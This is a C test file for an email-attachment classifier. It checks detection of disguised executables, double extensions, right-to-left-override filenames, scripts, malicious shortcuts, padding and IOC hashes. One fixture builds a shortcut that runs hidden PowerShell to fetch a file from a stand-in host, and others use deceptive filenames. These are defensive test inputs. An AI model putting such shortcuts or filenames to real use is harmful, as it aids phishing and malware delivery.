/* test-attachment-file.c — the attachment classifier on single files: programs, scripts,
 * shortcuts, disguised names, padding, hashes; each indicator found, and not found where it
 * is absent */
#define G_LOG_DOMAIN "test-attachment-file"

#include "config.h"

#include <locale.h>
#include <string.h>

#include "taiou.h"
#include "taiou-attachment-private.h"
#include "taiou-test-attachment.h"
#include "taiou-test-fixtures.h"

static void
test_pe (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  g_autoptr(GBytes) text = taiou_test_bytes_printf ("お見積りの件、よろしくお願いします。");
  g_autoptr(TaiouAttachmentReport) report = classify ("setup.exe", pe);
  g_autoptr(TaiouAttachmentReport) disguised = classify ("見積書.pdf", pe);
  g_autoptr(TaiouAttachmentReport) plain = classify ("memo.txt", text);
  g_autofree char *hex = sha256_hex (pe);
  TaiouFinding *finding;

  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
  g_assert_cmpstr (report->sha256, ==, hex);
  g_assert_true (report->complete);
  g_assert_cmpuint (report->size, ==, g_bytes_get_size (pe));
  finding = finding_at (report, NULL, "attachment.executable");
  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 80);
  g_assert_cmpstr (finding->sha256, ==, hex);
  g_assert_true (g_utf8_validate (finding->reason_ja, -1, NULL));

  /* Content decides: a program named .pdf is a program, and scores higher. */
  g_assert_cmpint (disguised->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
  g_assert_cmpint (finding_at (disguised, NULL, "attachment.executable")->score, ==, 90);

  g_assert_cmpint (plain->type, ==, TAIOU_ATTACHMENT_TYPE_OTHER);
  g_assert_cmpuint (plain->findings->len, ==, 0);
  g_assert_cmpint (taiou_attachment_report_get_score (plain), ==, 0);
}

static void
test_double_extension (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  const char * const positive[] = { "請求書.pdf.exe", "請求書.pdf          .exe", "Invoice.DOC.js",
                                    "scan.jpg.scr.", NULL };
  const char * const negative[] = { "請求書.exe", "report.v2.pdf", "archive.tar.gz", "photo.jpg",
                                    NULL };

  for (guint i = 0; positive[i] != NULL; i++)
    {
      g_autoptr(TaiouAttachmentReport) report = classify (positive[i], pe);
      TaiouFinding *finding = finding_at (report, NULL, "attachment.double-extension");

      g_assert_nonnull (finding);
      g_assert_cmpint (finding->score, ==, 90);
      g_assert_cmpstr (finding->object, ==, positive[i]);
    }
  for (guint i = 0; negative[i] != NULL; i++)
    {
      g_autoptr(TaiouAttachmentReport) report = classify (negative[i], pe);

      g_assert_null (finding_at (report, NULL, "attachment.double-extension"));
    }
}

static void
test_rtlo (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  g_autoptr(TaiouAttachmentReport) report = classify ("invoice\u202Efdp.exe", pe);
  g_autoptr(TaiouAttachmentReport) plain = classify ("invoice.pdf", pe);
  TaiouFinding *finding = finding_at (report, NULL, "attachment.rtlo");

  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 90);
  /* The evidence shows the control character instead of obeying it. */
  g_assert_nonnull (strstr (finding->evidence, "<U+202E>"));
  g_assert_nonnull (strstr (finding->evidence, ".exe"));
  g_assert_null (strstr (finding->evidence, "\u202E"));
  g_assert_null (finding_at (plain, NULL, "attachment.rtlo"));
}

static void
test_script (void)
{
  g_autoptr(GBytes) vbs = taiou_test_bytes_printf ("Set s = CreateObject(\"WScript.Shell\")\n");
  g_autoptr(TaiouAttachmentReport) report = classify ("run.vbs", vbs);
  g_autoptr(TaiouAttachmentReport) text = classify ("notes.txt", vbs);

  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_SCRIPT);
  g_assert_cmpint (finding_at (report, NULL, "attachment.script")->score, ==, 80);
  /* A text file that talks about scripts is text: names outrank markers when there is a name. */
  g_assert_cmpint (text->type, ==, TAIOU_ATTACHMENT_TYPE_OTHER);
  g_assert_null (finding_at (text, NULL, "attachment.script"));
  /* Windows runs nothing without an extension, so a named file is never judged by its text. */
  {
    g_autoptr(GBytes) zip = taiou_test_zip_of ("README", vbs);
    g_autoptr(TaiouAttachmentReport) report_zip = classify ("docs.zip", zip);

    g_assert_false (anywhere (report_zip, "attachment.script"));
  }
}

static void
test_lnk (void)
{
  g_autoptr(GBytes) evil = taiou_test_lnk_new ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                               "-w hidden -c \"iwr http://example.invalid/a\"");
  g_autoptr(GBytes) tame = taiou_test_lnk_new ("C:\\Windows\\notepad.exe", "readme.txt");
  g_autoptr(GBytes) text = taiou_test_bytes_printf ("not a shortcut");
  g_autoptr(TaiouAttachmentReport) report = classify ("請求書.pdf.lnk", evil);
  g_autoptr(TaiouAttachmentReport) tame_report = classify ("メモ.lnk", tame);
  g_autoptr(TaiouAttachmentReport) plain = classify ("memo.txt", text);
  TaiouFinding *finding;
  TaiouLnkInfo info;
  gsize length;
  const guint8 *data = g_bytes_get_data (evil, &length);

  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_LNK);
  finding = finding_at (report, NULL, "attachment.lnk");
  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 100);
  g_assert_nonnull (strstr (finding->evidence, "powershell.exe"));
  g_assert_nonnull (strstr (finding->evidence, "-w hidden"));
  g_assert_nonnull (finding_at (report, NULL, "attachment.double-extension"));

  finding = finding_at (tame_report, NULL, "attachment.lnk");
  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 80);
  g_assert_nonnull (strstr (finding->evidence, "notepad.exe"));

  g_assert_null (finding_at (plain, NULL, "attachment.lnk"));

  g_assert_true (_taiou_lnk_parse (data, length, &info));
  g_assert_cmpstr (info.local_base_path, ==,
                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  g_assert_cmpstr (info.relative_path, ==, ".\\powershell.exe");
  g_assert_cmpstr (info.arguments, ==, "-w hidden -c \"iwr http://example.invalid/a\"");
  _taiou_lnk_info_clear (&info);

  /* Every truncation of a shortcut is read without reading past its end (ASan checks). */
  for (gsize n = 0; n < length; n++)
    {
      g_autofree guint8 *copy = g_memdup2 (data, n);

      if (_taiou_lnk_parse (copy, n, &info))
        _taiou_lnk_info_clear (&info);
    }
}

static void
test_find_password (void)
{
  const struct { const char *body; const char *password; } cases[] = {
    { "パスワード：Kx8fPq2Z", "Kx8fPq2Z" },
    { "解凍パスワードは「20221105」です。", "20221105" },
    { "ＰＷ：ａｂ１２ｃｄ", "ab12cd" },
    { "ﾊﾟｽﾜｰﾄﾞ: Qw3rty!", "Qw3rty!" },
    { "Password: hunter22.", "hunter22" },
    { "The password is Xy7pLm2q", "Xy7pLm2q" },
    { "【パスワード】\r\n\r\n  Ab12cd34  \r\n", "Ab12cd34" },
    { "PW=mX9kT2", "mX9kT2" },
    { "パスワードは別途お送りします。", NULL },
    { "Password will follow in a separate mail.", NULL },
    { "Please see the passport copy 12345678.", NULL },
    { "パスワード：https://example.invalid/pw", NULL },
    { "pw", NULL },
    { "", NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *line = NULL;
      g_autofree char *password = _taiou_attachment_find_password (cases[i].body,
                                                                   strlen (cases[i].body), &line);

      g_test_message ("body %s", cases[i].body);
      g_assert_cmpstr (password, ==, cases[i].password);
      g_assert_true ((line != NULL) == (password != NULL));
    }
}

static TaiouAttachmentReport *
classify_padded (const char *name,
                 GBytes     *prefix,
                 guint64     fill_length)
{
  g_autoptr(GInputStream) stream = taiou_test_padded_stream_new (prefix, fill_length, 0);
  g_autoptr(GError) error = NULL;
  TaiouAttachmentReport *report;

  report = taiou_attachment_classify_stream (name, stream, NULL, NULL, &error);
  g_assert_no_error (error);
  return report;
}

static void
test_padded (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  const char * const word[] = { "Macros/VBA/dir", "Macros/PROJECT", "WordDocument", NULL };
  g_autoptr(GBytes) doc = taiou_test_ole_new (word, NULL);
  g_autoptr(TaiouAttachmentReport) padded = classify_padded ("請求書.exe", pe, 40 << 20);
  g_autoptr(TaiouAttachmentReport) padded_doc = classify_padded ("請求書.doc", doc, 40 << 20);
  g_autoptr(TaiouAttachmentReport) normal = classify_padded ("setup.exe", pe, 1 << 20);
  TaiouFinding *finding = finding_at (padded, NULL, "attachment.padded");

  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 70);
  g_assert_cmpuint (padded->size, ==, g_bytes_get_size (pe) + (40 << 20));
  g_assert_true (padded->complete);
  g_assert_nonnull (padded->sha256);
  g_assert_cmpint (padded->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
  /* The structure before the padding is still inspected. */
  g_assert_nonnull (finding_at (padded_doc, NULL, "attachment.padded"));
  g_assert_nonnull (finding_at (padded_doc, NULL, "attachment.macro-ole"));
  g_assert_null (finding_at (normal, NULL, "attachment.padded"));
}

/* The spool keeps the file intact where it keeps it, whatever the chunking and the runs. */
static void
test_spool (void)
{
  g_autoptr(GByteArray) original = g_byte_array_new ();
  const gsize chunks[] = { 1, 7, 4096, 65536, 1 << 20, 3 << 20 };
  g_autoptr(GChecksum) checksum = g_checksum_new (G_CHECKSUM_SHA256);
  guint8 digest[32];
  gsize digest_len = sizeof digest;

  for (guint i = 0; i < 5000; i++)
    g_byte_array_append (original, (const guint8 *) "abcabcabc", 1 + i % 9);
  g_byte_array_set_size (original, original->len + (3 << 20));   /* a 3 MiB zero run inside */
  memset (original->data + original->len - (3 << 20), 0, 3 << 20);
  g_byte_array_append (original, (const guint8 *) "tail", 4);
  g_byte_array_set_size (original, original->len + (5 << 20));   /* and a 5 MiB zero tail */
  memset (original->data + original->len - (5 << 20), 0, 5 << 20);
  g_checksum_update (checksum, original->data, original->len);
  g_checksum_get_digest (checksum, digest, &digest_len);

  for (guint c = 0; c < G_N_ELEMENTS (chunks); c++)
    {
      TaiouSpool spool;
      const guint8 *kept;
      gsize kept_len;
      guint64 offset = 0;
      gsize n;
      const guint8 *view;

      _taiou_spool_init (&spool, 64 << 20);
      for (gsize pos = 0; pos < original->len; pos += chunks[c])
        _taiou_spool_feed (&spool, original->data + pos, MIN (chunks[c], original->len - pos));
      _taiou_spool_finish (&spool, TRUE);

      g_assert_cmpmem (spool.sha256, 32, digest, 32);
      g_assert_cmpuint (spool.size, ==, original->len);
      g_assert_cmpuint (spool.longest_len, ==, 5 << 20);
      g_assert_cmpuint (spool.longest_start, ==, original->len - (5 << 20));
      kept = _taiou_spool_get_data (&spool, &kept_len);
      /* The tail run is elided past 1 MiB; everything before it is kept byte for byte. */
      g_assert_cmpuint (kept_len, ==, original->len - (4 << 20));
      g_assert_cmpmem (kept, kept_len, original->data, kept_len);
      g_assert_cmpuint (spool.tail_fill, ==, 4 << 20);
      while ((n = _taiou_spool_read_at (&spool, offset, &view, 100000)) > 0)
        {
          g_assert_cmpmem (view, n, original->data + offset, n);
          offset += n;
        }
      g_assert_cmpuint (offset, ==, original->len);
      _taiou_spool_clear (&spool);
    }
}

static void
test_ioc (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  g_autoptr(GBytes) zip = taiou_test_zip_of ("invoice.exe", pe);
  g_autofree char *hex = sha256_hex (pe);
  g_autofree char *list = g_strdup_printf ("%s;90;Emotet loader (test)\n", hex);
  const char *other_list = "00000000000000000000000000000000000000000000000000000000000000"
                           "01;90;unrelated\n";
  g_autoptr(TaiouIocSet) iocs = taiou_ioc_set_new ();
  g_autoptr(TaiouIocSet) other = taiou_ioc_set_new ();
  g_autoptr(TaiouIocLoadReport) load = NULL;
  g_autoptr(TaiouIocLoadReport) load_other = NULL;
  g_autoptr(TaiouAttachmentReport) report = NULL;
  g_autoptr(TaiouAttachmentReport) clean = NULL;
  g_autoptr(GError) error = NULL;
  TaiouFinding *finding;

  load = taiou_ioc_set_load_data (iocs, "hash-iocs.txt", list, strlen (list),
                                  TAIOU_IOC_FORMAT_LOKI_HASH, &error);
  g_assert_no_error (error);
  load_other = taiou_ioc_set_load_data (other, "hash-iocs.txt", other_list, strlen (other_list),
                                        TAIOU_IOC_FORMAT_LOKI_HASH, &error);
  g_assert_no_error (error);
  report = classify_full ("請求書.zip", zip, NULL, NULL, iocs);
  clean = classify_full ("請求書.zip", zip, NULL, NULL, other);
  finding = finding_at (report, "請求書.zip/invoice.exe", "ioc.sha256");
  g_assert_nonnull (finding);
  g_assert_cmpint (finding->score, ==, 90);
  g_assert_cmpstr (finding->sha256, ==, hex);
  g_assert_nonnull (strstr (finding->evidence, "Emotet loader (test)"));
  g_assert_false (anywhere (clean, "ioc.sha256"));
}

static void
test_cancel (void)
{
  g_autoptr(GBytes) pe = taiou_test_pe_new ();
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(TaiouAttachmentReport) report = NULL;

  g_cancellable_cancel (cancellable);
  report = taiou_attachment_classify_bytes ("a.exe", pe, NULL, cancellable, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_null (report);
}

static void
test_types (void)
{
  g_autofree guint8 *fat = g_malloc0 (1024);
  g_autoptr(GBytes) rar = taiou_test_bytes_printf ("Rar!\x1a\x07%s", "\x01 not really a rar");
  g_autoptr(GBytes) pdf = taiou_test_bytes_printf ("%%PDF-1.7\n%%…\n");
  g_autoptr(GBytes) image = NULL;
  g_autoptr(GBytes) random_img = taiou_test_bytes_printf ("not a disk image at all");
  g_autoptr(TaiouAttachmentReport) rar_report = classify ("書類.rar", rar);
  g_autoptr(TaiouAttachmentReport) pdf_report = classify ("書類.pdf", pdf);
  g_autoptr(TaiouAttachmentReport) image_report = NULL;
  g_autoptr(TaiouAttachmentReport) random_report = classify ("photo.img", random_img);

  memcpy (fat + 54, "FAT12   ", 8);
  fat[510] = 0x55;
  fat[511] = 0xAA;
  image = g_bytes_new (fat, 1024);
  image_report = classify ("請求書.img", image);

  g_assert_cmpint (rar_report->type, ==, TAIOU_ATTACHMENT_TYPE_RAR);
  g_assert_nonnull (finding_at (rar_report, NULL, "attachment.unreadable"));
  g_assert_cmpint (pdf_report->type, ==, TAIOU_ATTACHMENT_TYPE_PDF);
  g_assert_cmpuint (pdf_report->findings->len, ==, 0);
  g_assert_cmpint (image_report->type, ==, TAIOU_ATTACHMENT_TYPE_IMG);
  g_assert_cmpint (finding_at (image_report, NULL, "attachment.disk-image")->score, ==, 60);
  g_assert_cmpint (random_report->type, ==, TAIOU_ATTACHMENT_TYPE_OTHER);
  g_assert_null (finding_at (random_report, NULL, "attachment.disk-image"));
  g_assert_cmpstr (taiou_attachment_type_to_string (TAIOU_ATTACHMENT_TYPE_OOXML_OFFICE), ==,
                   "ooxml-office");
}

int
main (int    argc,
      char **argv)
{
  setlocale (LC_ALL, "");
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/taiou/attachment/pe", test_pe);
  g_test_add_func ("/taiou/attachment/double-extension", test_double_extension);
  g_test_add_func ("/taiou/attachment/rtlo", test_rtlo);
  g_test_add_func ("/taiou/attachment/script", test_script);
  g_test_add_func ("/taiou/attachment/lnk", test_lnk);
  g_test_add_func ("/taiou/attachment/find-password", test_find_password);
  g_test_add_func ("/taiou/attachment/padded", test_padded);
  g_test_add_func ("/taiou/attachment/spool", test_spool);
  g_test_add_func ("/taiou/attachment/ioc", test_ioc);
  g_test_add_func ("/taiou/attachment/cancel", test_cancel);
  g_test_add_func ("/taiou/attachment/types", test_types);
  return g_test_run ();
}
